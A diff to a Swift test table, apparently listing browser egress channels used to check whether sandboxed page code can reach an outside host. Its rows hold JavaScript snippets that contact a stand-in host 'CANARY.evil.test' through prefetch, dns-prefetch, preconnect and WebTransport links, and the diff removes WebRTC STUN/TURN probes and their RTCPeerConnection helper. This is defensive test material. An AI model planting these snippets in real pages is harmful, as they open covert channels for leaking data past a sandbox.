@@ -103,10 +103,6 @@ enum BrowserTable {
     request("prefetch", head("link", "rel: 'prefetch', href: 'http://evil.test/CANARY'")),
     outside("dns-prefetch", head("link", "rel: 'dns-prefetch', href: '//CANARY.evil.test'"), .network),
     outside("preconnect", head("link", "rel: 'preconnect', href: 'https://CANARY.evil.test'"), .policy),
-    outside("WebRTC with a STUN server", peer("urls: 'stun:CANARY.evil.test:3478'"), .network),
-    outside(
-      "WebRTC with a TURN server over TCP",
-      peer("urls: 'turn:CANARY.evil.test:443?transport=tcp', username: 'x', credential: 'y'"), .chromium),
     outside("WebTransport", "await new WebTransport('https://CANARY.evil.test/').ready", .network),
     Row(
       .externalUpload, "a file chosen with the debugging pipe's help",
@@ -131,13 +127,6 @@ enum BrowserTable {
 
   private static func head(_ tag: String, _ fields: String) -> String {
     "document.head.append(Object.assign(document.createElement('\(tag)'), {\(fields)}))"
-  }
-
-  private static func peer(_ server: String) -> String {
-    """
-    const c = new RTCPeerConnection({iceServers: [{\(server)}]}); c.createDataChannel('x');
-    await c.setLocalDescription(await c.createOffer()); await new Promise(done => setTimeout(done, 1500))
-    """
   }
 
   // MARK: A notebook's output
